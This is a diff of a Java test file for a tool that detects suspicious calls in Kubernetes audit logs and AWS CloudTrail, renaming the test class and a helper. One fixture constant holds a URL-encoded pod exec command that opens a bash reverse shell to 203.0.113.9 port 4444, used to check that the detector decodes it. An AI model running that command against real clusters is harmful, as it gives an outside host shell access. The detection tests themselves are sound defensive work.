@@ -21,7 +21,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
 /** What the rules on calls say that they could not see. */
-class BlindTest {
+class UnseenCallsTest {
     private static final String REVERSE_SHELL = "/api/v1/namespaces/shop/pods/checkout-1/exec?container=checkout"
             + "&command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
     private static final String SHELL = "{\"cluster\":\"shop\",\"task\":\"9f3c1a7be4d24c0f8a6b5d2e17c0934a\","
@@ -37,8 +37,8 @@ class BlindTest {
                 .toList();
     }
 
-    private static Scene session(String id) {
-        Scene scene = new Scene();
+    private static ActivityStage session(String id) {
+        ActivityStage scene = new ActivityStage();
         ObjectNode entry = scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
         entry.putObject("responseElements").putObject("session").put("sessionId", id);
         return scene;
@@ -46,7 +46,7 @@ class BlindTest {
 
     @Test
     void anExecOverWebSocketIsSeenAndDecoded() {
-        Scene scene = new Scene();
+        ActivityStage scene = new ActivityStage();
         scene.kubernetes("jane", "get", REVERSE_SHELL, "pods", "exec");
         ActivityRules.Result result = scene.judge(folder);
         Finding exec = result.findings().getFirst();
@@ -58,7 +58,7 @@ class BlindTest {
 
     @Test
     void anAuditLogWithoutReadsHidesIt() {
-        Scene scene = new Scene();
+        ActivityStage scene = new ActivityStage();
         scene.kubernetes("jane", "create", "/api/v1/namespaces/shop/pods", "pods", "");
         assertThat(of("EXE-001", scene.judge(folder)))
                 .singleElement()
@@ -87,7 +87,7 @@ class BlindTest {
                             case PARTIAL -> new Outcome.Partial(says);
                             default -> new Outcome.Empty("no rows");
                         });
-        List<String> gaps = of("EXE-001", new Scene().judge(fixture));
+        List<String> gaps = of("EXE-001", new ActivityStage().judge(fixture));
         assertThat(gaps).hasSize(gap == null ? 0 : 1).allMatch(why -> gap != null && why.contains(gap));
     }
 
@@ -128,7 +128,7 @@ class BlindTest {
 
     @Test
     void anExecThatWasAnsweredWithoutASessionMayNotHaveRun() {
-        Scene scene = new Scene();
+        ActivityStage scene = new ActivityStage();
         scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
         assertThat(of("EXE-004", scene.judge(folder)))
                 .singleElement()
@@ -143,11 +143,11 @@ class BlindTest {
                         "aws.cloudtrail.events",
                         Map.of("a", "2"),
                         new Outcome.Denied("cloudtrail:LookupEvents", "cloudtrail:LookupEvents is missing"));
-        assertThat(of("EXE", new Scene().judge(denied)))
+        assertThat(of("EXE", new ActivityStage().judge(denied)))
                 .singleElement()
                 .asString()
                 .contains("DENIED", "is missing");
-        assertThat(of("EXE", new Scene().judge(folder.resolve("b"))))
+        assertThat(of("EXE", new ActivityStage().judge(folder.resolve("b"))))
                 .singleElement()
                 .asString()
                 .contains("no log of calls");
@@ -160,7 +160,7 @@ class BlindTest {
                         "aws.eks.audit",
                         Map.of("auditLogging", "off"),
                         new Outcome.Partial("2 requests about the target, and none since it was turned off"));
-        assertThat(of("EXE-001", new Scene().judge(off)))
+        assertThat(of("EXE-001", new ActivityStage().judge(off)))
                 .singleElement()
                 .asString()
                 .contains("who ran commands in its pods is not known whole", "PARTIAL", "turned off");
@@ -168,7 +168,7 @@ class BlindTest {
 
     @Test
     void oneRegionIsNotTheWorld() {
-        Scene scene = new Scene();
+        ActivityStage scene = new ActivityStage();
         scene.aws(0, USER, "ecs:CreateCluster", "{}");
         assertThat(of("EXE-010", scene.judge(folder)))
                 .singleElement()
@@ -178,7 +178,7 @@ class BlindTest {
 
     @Test
     void theCollectorsOwnCallsAreNoFindings() {
-        Scene scene = new Scene();
+        ActivityStage scene = new ActivityStage();
         String collector = "arn:aws:sts::111122223333:assumed-role/ephemera-collector/test";
         scene.aws(0, collector, "ecs:DescribeTasks", "{}");
         scene.kubernetes("jane", "list", "/api/v1/pods", "pods", "");
